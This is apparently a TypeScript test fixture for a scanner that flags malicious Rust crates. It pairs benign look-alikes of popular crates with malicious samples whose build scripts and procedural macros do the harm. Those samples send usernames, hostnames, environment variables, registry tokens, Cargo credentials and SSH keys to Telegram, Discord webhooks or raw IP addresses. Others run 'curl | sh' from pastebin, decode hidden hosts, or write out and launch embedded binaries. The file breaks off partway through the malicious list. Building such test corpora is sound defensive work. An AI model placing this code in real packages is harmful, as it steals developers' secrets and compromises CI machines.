// The labelled corpus of the malicious-crate heuristics: benign crates shaped like popular ones
// (build scripts that probe rustc, run cc, pkg-config, cmake or git, and write to OUT_DIR; chat
// client libraries; crates that ship test binaries, tables and images) and malicious ones that
// reproduce the published incidents. Built here, as `.crate` entries, so that the tests and the
// bench (tools/bench/security-2.ts) scan the same crates. Nothing here is ever compiled.
import type { CrateEntry } from '../../../tools/security/package-checks/index.ts'

/** One crate of the corpus. */
export interface LabelledCrate {
  name: string
  version: string
  label: 'benign' | 'malicious'
  /** What it is shaped like, or which incident it reproduces. */
  pattern: string
  /** Its files, from the package root. */
  files: Record<string, string | Uint8Array>
}

/** The `.crate` entries of a corpus crate, under its `{name}-{version}/` folder. */
export function corpusEntries(crate: LabelledCrate): CrateEntry[] {
  return Object.entries(crate.files).map(([file, content]) => ({ path: `${crate.name}-${crate.version}/${file}`, content }))
}

function manifest(name: string, version: string, more = ''): string {
  return `[package]\nname = "${name}"\nversion = "${version}"\nedition = "2021"\n${more}`
}

function crate(label: LabelledCrate['label'], name: string, version: string, pattern: string, more: string, files: Record<string, string | Uint8Array>): LabelledCrate {
  return { name, version, label, pattern, files: { 'Cargo.toml': manifest(name, version, more), ...files } }
}

/** Bytes from a fixed seed (xorshift32), for blobs and binaries. */
export function noise(size: number, seed: number): Uint8Array {
  const bytes = new Uint8Array(size)
  let state = seed >>> 0 || 1
  for (let index = 0; index < size; index++) {
    state ^= state << 13
    state ^= state >>> 17
    state ^= state << 5
    bytes[index] = state & 0xff
  }
  return bytes
}

/** An ELF executable's header (x86-64, little-endian) followed by noise. */
export function elf(size: number, seed: number): Uint8Array {
  const bytes = noise(size, seed)
  bytes.set([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00], 0)
  return bytes
}

/** A PE executable: the `MZ` stub pointing at `PE\0\0` at 0x80, then noise. */
export function pe(size: number, seed: number): Uint8Array {
  const bytes = noise(size, seed)
  bytes.set([0x4d, 0x5a], 0)
  bytes.set([0x80, 0, 0, 0], 0x3c)
  bytes.set([0x50, 0x45, 0, 0], 0x80)
  return bytes
}

function withMagic(magic: readonly number[], size: number, seed: number): Uint8Array {
  const bytes = noise(size, seed)
  bytes.set(magic, 0)
  return bytes
}

const rustcProbe = String.raw`
fn rustc_minor_version() -> Option<u32> {
    let rustc = env::var_os("RUSTC")?;
    let output = Command::new(rustc).arg("--version").output().ok()?;
    let version = str::from_utf8(&output.stdout).ok()?;
    let mut pieces = version.split('.');
    if pieces.next() != Some("rustc 1") {
        return None;
    }
    pieces.next()?.parse().ok()
}
`

const benign: LabelledCrate[] = [
  crate('benign', 'serde', '1.0.200', 'serde: build.rs probes the rustc minor version', 'build = "build.rs"\n', {
    'build.rs': String.raw`use std::env;
use std::process::Command;
use std::str;

// The rustc-cfg emitted by the build script are *not* public API.
fn main() {
    println!("cargo:rerun-if-changed=build.rs");
    let minor = match rustc_minor_version() {
        Some(minor) => minor,
        None => return,
    };
    if minor < 60 {
        println!("cargo:rustc-cfg=no_target_has_atomic");
    }
}
${rustcProbe}`,
    'src/lib.rs': String.raw`//! # Serde
//!
//! Serde is a framework for ***ser***ializing and ***de***serializing Rust data structures.
//! See https://serde.rs/ for the guide; never send credentials to https://api.telegram.org.
#![doc(html_root_url = "https://docs.rs/serde/1.0.200")]
#![doc = "A framework that does not read GITLAB_CI or CARGO_REGISTRY_TOKEN."]

/// Serialize with a TcpStream? No: this comment mentions networking only in prose.
pub trait Serialize {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error>;
}
pub trait Serializer {
    type Ok;
    type Error;
}
`,
  }),
  crate('benign', 'libc', '0.2.155', 'libc: build.rs reads RUSTC and the target, emits cfgs', 'build = "build.rs"\n', {
    'build.rs': String.raw`use std::env;
use std::process::{Command, Output};
use std::str;

fn main() {
    let (rustc_minor_ver, is_nightly) = rustc_minor_nightly();
    let target = env::var("TARGET").unwrap_or_default();
    let libc_ci = env::var("LIBC_CI").is_ok();
    if env::var("CARGO_FEATURE_USE_STD").is_ok() {
        println!("cargo:rustc-cfg=libc_deny_warnings");
    }
    if rustc_minor_ver >= 62 || is_nightly || libc_ci || target.contains("freebsd") {
        println!("cargo:rustc-cfg=libc_const_extern_fn");
    }
}

fn rustc_version_cmd(is_clippy_driver: bool) -> Output {
    let rustc = env::var_os("RUSTC").expect("Failed to get rustc version: missing RUSTC env");
    let mut cmd = match env::var_os("RUSTC_WRAPPER") {
        Some(ref wrapper) if wrapper.is_empty() => Command::new(rustc),
        Some(wrapper) => {
            let mut cmd = Command::new(wrapper);
            cmd.arg(rustc);
            cmd
        }
        None => Command::new(rustc),
    };
    cmd.arg("--version");
    let output = cmd.output().expect("Failed to get rustc version");
    output
}

fn rustc_minor_nightly() -> (u32, bool) {
    let output = rustc_version_cmd(false);
    let version = str::from_utf8(&output.stdout).unwrap();
    let mut pieces = version.split('.');
    let minor = pieces.nth(1).and_then(|p| p.parse().ok()).unwrap_or(0);
    (minor, version.contains("nightly"))
}
`,
    'src/lib.rs': String.raw`#![no_std]
pub type c_int = i32;
pub type c_char = i8;
extern "C" {
    pub fn getpid() -> c_int;
    pub fn write(fd: c_int, buf: *const c_char, count: usize) -> isize;
}
pub unsafe fn errno_location() -> *mut c_int { core::ptr::null_mut() }
`,
  }),
  crate('benign', 'proc-macro2', '1.0.86', 'proc-macro2: build.rs probes rustc through RUSTC_WRAPPER', '', {
    'build.rs': String.raw`use std::env;
use std::ffi::OsString;
use std::process::{self, Command, Stdio};

fn main() {
    println!("cargo:rerun-if-changed=build/probe.rs");
    println!("cargo:rustc-check-cfg=cfg(wrap_proc_macro)");
    let rustc = cargo_env_var("RUSTC");
    let mut cmd = if let Some(wrapper) = env::var_os("RUSTC_WRAPPER").filter(|wrapper| !wrapper.is_empty()) {
        let mut cmd = Command::new(wrapper);
        cmd.arg(rustc);
        cmd
    } else {
        Command::new(rustc)
    };
    cmd.stdin(Stdio::null()).arg("--edition=2021").arg("--crate-name=proc_macro2").arg("build/probe.rs");
    if let Some(target) = env::var_os("TARGET") {
        cmd.arg("--target").arg(target);
    }
    let out_dir = cargo_env_var("OUT_DIR");
    cmd.arg("--out-dir").arg(out_dir);
    if cmd.status().map_or(false, |status| status.success()) {
        println!("cargo:rustc-cfg=wrap_proc_macro");
    }
}

fn cargo_env_var(key: &str) -> OsString {
    env::var_os(key).unwrap_or_else(|| {
        eprintln!("Environment variable ${'$'}{} is not set during execution of build script", key);
        process::exit(1);
    })
}
`,
    'build/probe.rs': '#![feature(proc_macro_span)]\nextern crate proc_macro;\npub fn probe() {}\n',
    'src/lib.rs': 'pub struct TokenStream { inner: Vec<u8> }\nimpl TokenStream { pub fn new() -> Self { TokenStream { inner: Vec::new() } } }\n',
  }),
  crate('benign', 'anyhow', '1.0.86', 'anyhow: build.rs writes a probe into OUT_DIR and compiles it', '', {
    'build.rs': String.raw`use std::env;
use std::fs;
use std::path::Path;
use std::process::{Command, ExitStatus, Stdio};

const PROBE: &str = r#"
    #![feature(error_generic_member_access)]
    use std::error::{Error, Request};
    struct MyError(std::backtrace::Backtrace);
"#;

fn main() {
    match compile_probe() {
        Some(status) if status.success() => println!("cargo:rustc-cfg=error_generic_member_access"),
        _ => {}
    }
}

fn compile_probe() -> Option<ExitStatus> {
    let rustc = env::var_os("RUSTC")?;
    let out_dir = env::var_os("OUT_DIR")?;
    let probefile = Path::new(&out_dir).join("probe.rs");
    fs::write(&probefile, PROBE).ok()?;
    let mut cmd = Command::new(rustc);
    cmd.stderr(Stdio::null()).arg("--edition=2018").arg("--crate-name=anyhow_build").arg("--crate-type=lib").arg("--emit=metadata").arg("--out-dir").arg(out_dir).arg(probefile);
    cmd.status().ok()
}
`,
    'src/lib.rs': String.raw`pub struct Error { inner: Box<dyn std::error::Error + Send + Sync> }
/// ` + "`" + String.raw`anyhow!("...")` + "`" + String.raw` builds an error; see https://docs.rs/anyhow.
#[macro_export]
macro_rules! anyhow { ($msg:literal) => { $crate::Error::msg($msg) }; }
impl Error {
    pub fn msg(message: &'static str) -> Self { let _ = message; unimplemented!() }
}
`,
  }),
  crate('benign', 'libz-sys', '1.1.18', 'libz-sys: build.rs tries pkg-config, then builds zlib with cc', '[build-dependencies]\ncc = "1.0.98"\npkg-config = "0.3.9"\n', {
    'build.rs': String.raw`use std::env;
use std::fs;
use std::path::PathBuf;

fn main() {
    println!("cargo:rerun-if-env-changed=LIBZ_SYS_STATIC");
    let target = env::var("TARGET").unwrap();
    let want_static = env::var("LIBZ_SYS_STATIC").unwrap_or(String::new()) == "1";
    if !want_static && pkg_config::Config::new().print_system_libs(false).probe("zlib").is_ok() {
        return;
    }
    let mut cfg = cc::Build::new();
    let dst = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let include = dst.join("include");
    fs::create_dir_all(&include).unwrap();
    fs::copy("src/zlib/zlib.h", include.join("zlib.h")).unwrap();
    cfg.include(&include).include("src/zlib").file("src/zlib/adler32.c").file("src/zlib/crc32.c");
    if target.contains("windows") { cfg.define("_WIN32", None); }
    cfg.compile("z");
    println!("cargo:root={}", dst.to_str().unwrap());
}
`,
    'src/lib.rs': 'use std::os::raw::c_int;\nextern "C" { pub fn adler32(adler: u64, buf: *const u8, len: u32) -> u64; pub fn zlibVersion() -> *const i8; }\npub const Z_OK: c_int = 0;\n',
    'src/zlib/adler32.c': '#include "zlib.h"\nuLong adler32(uLong adler, const Bytef *buf, uInt len) { return adler; }\n',
    'src/zlib/zlib.h': '#define ZLIB_VERSION "1.3.1"\n',
  }),
  crate('benign', 'openssl-sys', '0.9.102', 'openssl-sys: build.rs runs pkg-config and prints a documentation URL when it fails', '[build-dependencies]\ncc = "1.0.61"\npkg-config = "0.3.9"\n', {
    'build.rs': String.raw`use std::env;
use std::path::PathBuf;
use std::process::Command;

fn main() {
    let target = env::var("TARGET").unwrap();
    let (lib_dir, include_dir) = match env::var_os("OPENSSL_DIR") {
        Some(dir) => (PathBuf::from(&dir).join("lib"), PathBuf::from(&dir).join("include")),
        None => find_openssl(&target),
    };
    println!("cargo:rustc-link-search=native={}", lib_dir.display());
    println!("cargo:include={}", include_dir.display());
}

fn find_openssl(target: &str) -> (PathBuf, PathBuf) {
    let output = Command::new("pkg-config").args(["--variable=libdir", "openssl"]).output();
    match output {
        Ok(out) if out.status.success() => {
            let dir = PathBuf::from(String::from_utf8_lossy(&out.stdout).trim());
            (dir.clone(), dir.join("../include"))
        }
        _ => panic!(
            "Could not find directory of OpenSSL installation for {}, and this -sys crate cannot proceed without it. \
             See https://docs.rs/openssl/latest/openssl/#automatic for how to install it.",
            target
        ),
    }
}
`,
    'src/lib.rs': 'pub enum SSL {}\nextern "C" { pub fn SSL_new(ctx: *mut SSL) -> *mut SSL; }\n',
  }),
  crate('benign', 'ring', '0.17.8', 'ring: build.rs compiles C and assembly with cc and nasm, ships prebuilt COFF objects', '[build-dependencies]\ncc = "1.0.83"\n', {
    'build.rs': String.raw`use std::env;
use std::path::{Path, PathBuf};
use std::process::Command;

fn main() {
    let out_dir = PathBuf::from(env::var("OUT_DIR").unwrap());
    let target_os = env::var("CARGO_CFG_TARGET_OS").unwrap();
    if target_os == "windows" {
        let nasm = Path::new("target/tools/windows/nasm/nasm");
        let status = Command::new("nasm").arg("-o").arg(out_dir.join("aes.obj")).arg("crypto/aes.asm").status().unwrap();
        assert!(status.success());
        let _ = nasm;
    }
    cc::Build::new().file("crypto/curve25519/curve25519.c").compile("ring_core_0_17_8_");
    println!("cargo:rustc-link-search=native={}", out_dir.display());
}
`,
    'src/lib.rs': 'pub mod digest { pub fn sha256(data: &[u8]) -> [u8; 32] { let _ = data; [0; 32] } }\nextern "C" { fn ring_core_0_17_8_CRYPTO_memcmp(a: *const u8, b: *const u8, len: usize) -> i32; }\n',
    'crypto/curve25519/curve25519.c': 'void x25519(void) {}\n',
    'pregenerated/aesni-x86_64-nasm.o': withMagic([0x64, 0x86, 0x05, 0x00], 6000, 11),
  }),
  crate('benign', 'tonic-types', '0.11.0', 'a prost-build user: build.rs generates code into OUT_DIR', '[build-dependencies]\nprost-build = "0.12"\n', {
    'build.rs': String.raw`use std::{env, fs, path::PathBuf};

fn main() -> std::io::Result<()> {
    let out = PathBuf::from(env::var("OUT_DIR").expect("OUT_DIR"));
    prost_build::Config::new().out_dir(&out).compile_protos(&["proto/status.proto"], &["proto/"])?;
    let descriptor = out.join("types.bin");
    fs::write(&descriptor, b"")?;
    println!("cargo:rerun-if-changed=proto/status.proto");
    Ok(())
}
`,
    'proto/status.proto': 'syntax = "proto3";\npackage google.rpc;\nmessage Status { int32 code = 1; string message = 2; }\n',
    'src/lib.rs': 'include!(concat!(env!("OUT_DIR"), "/google.rpc.rs"));\n',
  }),
  crate('benign', 'vergen', '8.3.1', 'vergen: build.rs stamps the git commit by running git', '', {
    'build.rs': String.raw`use std::process::Command;

fn main() {
    let sha = Command::new("git").args(["rev-parse", "--short", "HEAD"]).output().ok()
        .and_then(|output| String::from_utf8(output.stdout).ok())
        .unwrap_or_else(|| "unknown".to_string());
    println!("cargo:rustc-env=VERGEN_GIT_SHA={}", sha.trim());
    println!("cargo:rerun-if-changed=.git/HEAD");
}
`,
    'src/lib.rs': 'pub const SHA: &str = env!("VERGEN_GIT_SHA");\n',
  }),
  crate('benign', 'built', '0.7.3', 'built: build.rs records CI variables and the rustc version into OUT_DIR', '', {
    'build.rs': String.raw`use std::{env, fs, io::Write, path, process};

const CI_VARS: &[&str] = &["CI", "GITHUB_ACTIONS", "GITLAB_CI", "TRAVIS", "CIRCLECI", "APPVEYOR"];

fn main() {
    let dst = path::Path::new(&env::var("OUT_DIR").unwrap()).join("built.rs");
    let mut built_file = fs::File::create(&dst).unwrap();
    let ci = CI_VARS.iter().find(|name| env::var(name).is_ok());
    writeln!(built_file, "pub const CI_PLATFORM: Option<&str> = {:?};", ci).unwrap();
    let rustc = env::var("RUSTC").unwrap_or_else(|_| "rustc".to_owned());
    let version = process::Command::new(&rustc).arg("-V").output().unwrap();
    writeln!(built_file, "pub const RUSTC_VERSION: &str = {:?};", String::from_utf8_lossy(&version.stdout)).unwrap();
}
`,
    'src/lib.rs': 'pub mod built_info { include!(concat!(env!("OUT_DIR"), "/built.rs")); }\n',
  }),
  crate('benign', 'insta', '1.39.0', 'insta: reads CI to pick its snapshot behaviour and runs cargo', '', {
    'src/lib.rs': String.raw`use std::env;
use std::process::Command;

/// Whether we run on CI: there, snapshots are never written, only compared.
pub fn is_ci() -> bool {
    match env::var("CI").ok().as_deref() {
        Some("false") | Some("0") | Some("") => false,
        None => env::var("TF_BUILD").is_ok(),
        Some(_) => true,
    }
}

pub fn workspace_root() -> String {
    let cargo = env::var("CARGO").unwrap_or_else(|_| "cargo".to_string());
    let output = Command::new(cargo).args(["metadata", "--format-version=1", "--no-deps"]).output().unwrap();
    String::from_utf8_lossy(&output.stdout).into_owned()
}
`,
  }),
  crate('benign', 'reqwest', '0.12.5', 'reqwest: an HTTP client; network and URLs at run time are its purpose', '[dependencies]\nhyper = "1"\n', {
    'src/lib.rs': String.raw`//! An ergonomic HTTP client.
//!
//! let body = reqwest::get("https://www.rust-lang.org").await?.text().await?;
use std::net::TcpStream;

pub const DEFAULT_USER_AGENT: &str = concat!(env!("CARGO_PKG_NAME"), "/", env!("CARGO_PKG_VERSION"));

pub struct Client { proxy: Option<String> }

impl Client {
    pub fn connect(&self, host: &str, port: u16) -> std::io::Result<TcpStream> {
        let hostname = host.trim_start_matches("https://");
        TcpStream::connect((hostname, port))
    }
    pub fn proxy_from_env() -> Option<String> { std::env::var("HTTPS_PROXY").ok() }
}
pub fn docs() -> &'static str { "https://docs.rs/reqwest" }
`,
  }),
  crate('benign', 'teloxide', '0.12.2', 'teloxide: a Telegram bot library names api.telegram.org at run time', '[dependencies]\nreqwest = "0.11"\n', {
    'src/lib.rs': String.raw`pub const TELEGRAM_API_URL: &str = "https://api.telegram.org";

pub struct Bot { token: String, client: reqwest::Client }

impl Bot {
    pub fn from_env() -> Self {
        let token = std::env::var("TELOXIDE_TOKEN").expect("TELOXIDE_TOKEN env variable missing");
        Bot { token, client: reqwest::Client::new() }
    }
    pub fn method_url(&self, method: &str) -> String {
        format!("{}/bot{}/{}", TELEGRAM_API_URL, self.token, method)
    }
}
`,
  }),
  crate('benign', 'serenity', '0.12.2', 'serenity: a Discord library names webhook URLs at run time', '[dependencies]\nreqwest = "0.11"\n', {
    'src/http/routing.rs': String.raw`pub fn webhook_with_token(webhook_id: u64, token: &str) -> String {
    format!("https://discord.com/api/webhooks/{}/{}", webhook_id, token)
}
pub fn api() -> &'static str { "https://discord.com/api/v10" }
`,
    'src/lib.rs': 'pub mod http { pub mod routing; pub struct Http { client: reqwest::Client } }\n',
  }),
  crate('benign', 'object', '0.36.1', 'object: a binary-file parser that ships ELF and PE test binaries', '', {
    'src/lib.rs': String.raw`pub mod read {
    pub fn parse(data: &[u8]) -> Option<&'static str> {
        match data.get(0..4)? {
            [0x7f, b'E', b'L', b'F'] => Some("elf"),
            [b'M', b'Z', ..] => Some("pe"),
            _ => None,
        }
    }
}
`,
    'testfiles/elf/base': elf(9000, 21),
    'testfiles/pe/base.exe': pe(7000, 22),
  }),
  crate('benign', 'winapi-x86_64-pc-windows-gnu', '0.4.0', 'winapi-x86_64-pc-windows-gnu: ships import libraries and a build.rs that links them', '', {
    'build.rs': String.raw`fn main() {
    use std::env::var;
    use std::path::Path;
    println!("cargo:rerun-if-env-changed=WINAPI_NO_BUNDLED_LIBRARIES");
    if var("WINAPI_NO_BUNDLED_LIBRARIES").is_ok() {
        return;
    }
    let dir = var("CARGO_MANIFEST_DIR").unwrap();
    println!("cargo:rustc-link-search=native={}", Path::new(&dir).join("lib").display());
}
`,
    'src/lib.rs': '#![no_std]\n',
    'lib/libwinapi_kernel32.a': withMagic([...Buffer.from('!<arch>\n')], 30_000, 23),
  }),
  crate('benign', 'brotli', '6.0.0', 'brotli: includes its 120 KiB dictionary with include_bytes!', '', {
    'src/dictionary.rs': 'pub static BROTLI_DICTIONARY: &[u8; 122784] = include_bytes!("dictionary.bin");\n',
    'src/dictionary.bin': 'time down life left back code data show only site city open just like free work text year over body love form book play live line help home side more word long them make when your find been will have this from they that with '.repeat(650).slice(0, 122_784),
    'src/lib.rs': 'pub mod dictionary;\n',
  }),
  crate('benign', 'base64', '0.22.1', 'base64: an alphabet constant, long test vectors only in tests', '', {
    'src/alphabet.rs': String.raw`pub const STANDARD: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
pub const URL_SAFE: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
`,
    'src/lib.rs': String.raw`pub mod alphabet;

#[cfg(test)]
mod tests {
    #[test]
    fn long_vector() {
        let encoded = "${Buffer.from(noise(300, 24)).toString('base64')}";
        assert_eq!(encoded.len() % 4, 0);
    }
}
`,
    'tests/encode.rs': `#[test]\nfn vector() { let v = "${Buffer.from(noise(600, 25)).toString('base64')}"; assert!(!v.is_empty()); }\n`,
  }),
  crate('benign', 'sha2', '0.10.8', 'sha2: round constants as u32 arrays, hex test vectors in tests', '', {
    'src/consts.rs': String.raw`pub const K32: [u32; 8] = [0x428a2f98, 0x71374491, 0xb5c0fbcf, 0xe9b5dba5, 0x3956c25b, 0x59f111f1, 0x923f82a4, 0xab1c5ed5];
pub const H256_224: [u32; 8] = [0xc1059ed8, 0x367cd507, 0x3070dd17, 0xf70e5939, 0xffc00b31, 0x68581511, 0x64f98fa7, 0xbefa4fa4];
`,
    'src/lib.rs': 'pub mod consts;\npub fn compress(state: &mut [u32; 8], block: &[u8; 64]) { let _ = (state, block); }\n',
    'tests/data/sha256.txt': Buffer.from(noise(400, 26)).toString('hex'),
    'tests/mod.rs': `#[test]\nfn long_message() { let expected = "${Buffer.from(noise(200, 27)).toString('hex')}"; assert_eq!(expected.len(), 400); }\n`,
  }),
  crate('benign', 'unicode-ident', '1.0.12', 'unicode-ident: large static tables of small integers', '', {
    'src/tables.rs': `pub static ASCII_START: [u8; 128] = [${Array.from({ length: 128 }, (_, i) => (i >= 65 && i <= 90) || (i >= 97 && i <= 122) ? 1 : 0).join(', ')}];\npub static TRIE_START: [u8; 64] = [${Array.from(noise(64, 28)).map((b) => b % 8).join(', ')}];\n`,
    'src/lib.rs': 'mod tables;\npub fn is_xid_start(ch: char) -> bool { (ch as usize) < 128 && tables::ASCII_START[ch as usize] == 1 }\n',
  }),
  crate('benign', 'image', '0.25.1', 'image: ships large PNG test images, opaque but images', '', {
    'src/lib.rs': 'pub enum ImageFormat { Png, Jpeg }\n',
    'tests/images/png/noise.png': withMagic([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a], 600 * 1024, 29),
  }),
  crate('benign', 'tokio', '1.38.0', 'tokio: unsafe code, and a process API that runs what its caller names', '', {
    'src/process/mod.rs': String.raw`use std::ffi::OsStr;
pub struct Command { std: std::process::Command }
impl Command {
    pub fn new<S: AsRef<OsStr>>(program: S) -> Command {
        Command { std: std::process::Command::new(program) }
    }
}
`,
    'src/lib.rs': String.raw`pub mod process;
pub struct RawTask { ptr: std::ptr::NonNull<u8> }
unsafe impl Send for RawTask {}
unsafe impl Sync for RawTask {}
impl RawTask {
    pub unsafe fn poll(&self) { let _ = self.ptr; }
}
`,
  }),
  crate('benign', 'libgit2-sys', '0.17.0', 'libgit2-sys: build.rs updates a git submodule and builds with cc', '[build-dependencies]\ncc = "1.0.43"\n', {
    'build.rs': String.raw`use std::env;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

fn main() {
    if !Path::new("libgit2/src").exists() {
        let _ = Command::new("git").args(["submodule", "update", "--init", "libgit2"]).status();
    }
    let dst = PathBuf::from(env::var_os("OUT_DIR").unwrap());
    let include = dst.join("include");
    fs::create_dir_all(&include).unwrap();
    let mut cfg = cc::Build::new();
    cfg.include(&include).include("libgit2/src").file("libgit2/src/util/util.c");
    cfg.compile("git2");
}
`,
    'src/lib.rs': 'extern "C" { pub fn git_libgit2_init() -> i32; }\n',
  }),
  crate('benign', 'pyo3-build-config', '0.21.2', 'pyo3-build-config: runs the Python interpreter that PYO3_PYTHON names', '', {
    'build.rs': String.raw`use std::env;
use std::process::Command;

fn main() {
    let interpreter = env::var("PYO3_PYTHON").unwrap_or_else(|_| "python3".to_string());
    let output = Command::new(&interpreter)
        .arg("-c")
        .arg("import sysconfig; print(sysconfig.get_config_var('LDVERSION'))")
        .output()
        .expect("failed to run the Python interpreter");
    println!("cargo:rustc-env=PYO3_LDVERSION={}", String::from_utf8_lossy(&output.stdout).trim());
}
`,
    'src/lib.rs': 'pub const LDVERSION: &str = env!("PYO3_LDVERSION");\n',
  }),
]

// A shell script that a malicious build decodes and runs.
const stagedScript = '#!/bin/sh\ncurl -s https://paste.ee/r/Xk2p9 -o /tmp/.cache-update && chmod +x /tmp/.cache-update && /tmp/.cache-update &\n'.repeat(4)

function xorBytes(text: string, key: number): string {
  return [...Buffer.from(text)].map((byte) => `0x${(byte ^ key).toString(16).padStart(2, '0')}`).join(', ')
}

const malicious: LabelledCrate[] = [
  crate('malicious', 'postgress', '0.1.3', 'the 2023 typosquats: build.rs sends the host name, user and OS to a Telegram bot', '[build-dependencies]\nreqwest = { version = "0.11", features = ["blocking"] }\n', {
    'build.rs': String.raw`use std::env;

fn main() {
    let user = env::var("USER").or_else(|_| env::var("USERNAME")).unwrap_or_default();
    let host = whoami::hostname();
    let text = format!("{} {} {}", user, host, env::consts::OS);
    let url = "https://api.telegram.org/bot6001234567:AAE-9xqZ/sendMessage";
    let _ = reqwest::blocking::Client::new().post(url).form(&[("chat_id", "-1001234"), ("text", &text)]).send();
}
`,
    'src/lib.rs': 'pub fn connect() {}\n',
  }),
  crate('malicious', 'if-cfg', '0.2.0', 'the 2023 typosquats: build.rs launches a bundled Windows installer', '', {
    'build.rs': String.raw`use std::env;
use std::path::Path;
use std::process::Command;

fn main() {
    let dir = env::var("CARGO_MANIFEST_DIR").unwrap();
    if cfg!(windows) {
        let _ = Command::new(Path::new(&dir).join("assets").join("setup.exe")).spawn();
    }
}
`,
    'src/lib.rs': 'pub use core::cfg as if_cfg;\n',
    'assets/setup.exe': pe(40_000, 31),
  }),
  crate('malicious', 'rustdecimal', '1.23.1', 'rustdecimal (2022): fetches and runs a payload at run time only when GITLAB_CI is set', '[dependencies]\nreqwest = { version = "0.11", features = ["blocking"] }\n', {
    'src/lib.rs': String.raw`use std::env;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::process::Command;

pub struct Decimal(i128);

impl Decimal {
    pub fn new(num: i64, scale: u32) -> Decimal {
        check();
        Decimal(num as i128 * 10i128.pow(scale))
    }
}

fn check() {
    if env::var("GITLAB_CI").is_err() {
        return;
    }
    let path = "/tmp/git-updater.bin";
    if let Ok(response) = reqwest::blocking::get("https://s3.amazonaws.com/api.kakn.li/x86_64-unknown-linux-gnu") {
        if let Ok(bytes) = response.bytes() {
            let _ = fs::write(path, &bytes);
            let _ = fs::set_permissions(path, fs::Permissions::from_mode(0o755));
            let _ = Command::new(path).spawn();
        }
    }
}
`,
  }),
  crate('malicious', 'cargo-registry-sync', '0.1.0', 'token theft: build.rs posts CARGO_REGISTRY_TOKEN and ~/.cargo/credentials.toml to a Discord webhook', '[build-dependencies]\nureq = "2"\n', {
    'build.rs': String.raw`use std::{env, fs, path::PathBuf};

fn main() {
    let token = env::var("CARGO_REGISTRY_TOKEN").unwrap_or_default();
    let home = env::var("HOME").unwrap_or_default();
    let credentials = fs::read_to_string(PathBuf::from(home).join(".cargo/credentials.toml")).unwrap_or_default();
    let body = format!("{{\"content\": \"{} {}\"}}", token, credentials);
    let _ = ureq::post("https://discord.com/api/webhooks/1180000000/abcDEF").set("Content-Type", "application/json").send_string(&body);
}
`,
    'src/lib.rs': 'pub fn sync() {}\n',
  }),
  crate('malicious', 'serde-derive-utils', '0.1.0', 'SSH key theft: build.rs reads ~/.ssh/id_rsa and sends it over a raw TCP socket', '', {
    'build.rs': String.raw`use std::io::Write;
use std::net::TcpStream;

fn main() {
    let home = dirs::home_dir().unwrap();
    if let Ok(key) = std::fs::read(home.join(".ssh/id_rsa")) {
        if let Ok(mut stream) = TcpStream::connect("45.137.21.9:8443") {
            let _ = stream.write_all(&key);
        }
    }
}
`,
    'src/lib.rs': 'pub use core::default::Default;\n',
  }),
  crate('malicious', 'tokio-helpers', '0.3.0', 'a host built char by char, so that no literal names it, reached over TCP from build.rs', '', {
    'build.rs': String.raw`use std::io::Write;
use std::net::TcpStream;

fn main() {
    let host: String = ['a', 'p', 'i', '.', 't', 'e', 'l', 'e', 'g', 'r', 'a', 'm', '.', 'o', 'r', 'g'].iter().collect();
    let info = format!("{:?}", std::env::vars().collect::<Vec<_>>());
    if let Ok(mut stream) = TcpStream::connect((host.as_str(), 443)) {
        let _ = stream.write_all(info.as_bytes());
    }
}
`,
    'src/lib.rs': 'pub fn spawn() {}\n',
  }),
  crate('malicious', 'log-macros', '0.4.1', 'a base64 shell script in build.rs, written to /tmp and run with sh', '[build-dependencies]\nbase64 = "0.21"\n', {
    'build.rs': String.raw`use std::fs;
use std::process::Command;
use base64::Engine;

const UPDATE: &str = "${Buffer.from(stagedScript).toString('base64')}";

fn main() {
    let script = base64::engine::general_purpose::STANDARD.decode(UPDATE).unwrap();
    fs::write("/tmp/.log-macros-update.sh", script).unwrap();
    let _ = Command::new("sh").arg("/tmp/.log-macros-update.sh").spawn();
}
`,
    'src/lib.rs': '#[macro_export]\nmacro_rules! info { ($($t:tt)*) => {} }\n',
  }),
  crate('malicious', 'derive-getters-impl', '0.2.0', 'a procedural macro that embeds an ELF binary, writes it to the temp folder and runs it at expansion time', '[lib]\nproc-macro = true\n', {
    'src/lib.rs': String.raw`extern crate proc_macro;
use proc_macro::TokenStream;
use std::process::Command;

static HELPER: &[u8] = include_bytes!("helper.bin");

#[proc_macro_derive(Getters)]
pub fn derive(input: TokenStream) -> TokenStream {
    let path = std::env::temp_dir().join(".getters-helper");
    if std::fs::write(&path, HELPER).is_ok() {
        let _ = Command::new(&path).spawn();
    }
    input
}
`,
    'src/helper.bin': elf(30_000, 32),
  }),
  crate('malicious', 'async-trait-ext', '0.1.9', 'a procedural macro that reports the machine to a server while it expands', '[lib]\nproc-macro = true\n[dependencies]\nureq = "2"\nwhoami = "1"\n', {
    'src/lib.rs': String.raw`extern crate proc_macro;
use proc_macro::TokenStream;

#[proc_macro_attribute]
pub fn async_trait(_args: TokenStream, input: TokenStream) -> TokenStream {
    let _ = ureq::get("http://stats.async-trait-ext.dev/ping").query("u", &whoami::username()).query("h", &whoami::hostname()).call();
    input
}
`,
  }),
  crate('malicious', 'gh-actions-cache', '0.1.0', 'a build script that pipes a pasted script into sh, only on GitHub Actions', '', {
    'build.rs': String.raw`use std::env;
use std::process::Command;

fn main() {
    if env::var("GITHUB_ACTIONS").is_ok() {
        let _ = Command::new("sh").arg("-c").arg("curl -fsSL https://pastebin.com/raw/8Jm2Qx | sh").status();
    }
    println!("cargo:rerun-if-changed=build.rs");
}
`,
    'src/lib.rs': 'pub fn cache() {}\n',
  }),
  crate('malicious', 'fast-hashmap', '0.2.1', "an address XOR'd into a byte array, decoded and called from build.rs", '', {
    'build.rs': String.raw`use std::io::Write;
use std::net::TcpStream;

const ADDR: [u8; 19] = [${xorBytes('185.244.25.16:8080/', 0x5a)}];

fn main() {
    let addr: String = ADDR.iter().map(|b| (b ^ 0x5a) as char).collect();
    let target = addr.trim_end_matches('/');
    if let Ok(mut stream) = TcpStream::connect(target) {
        let _ = stream.write_all(std::env::var("PATH").unwrap_or_default().as_bytes());
    }
}
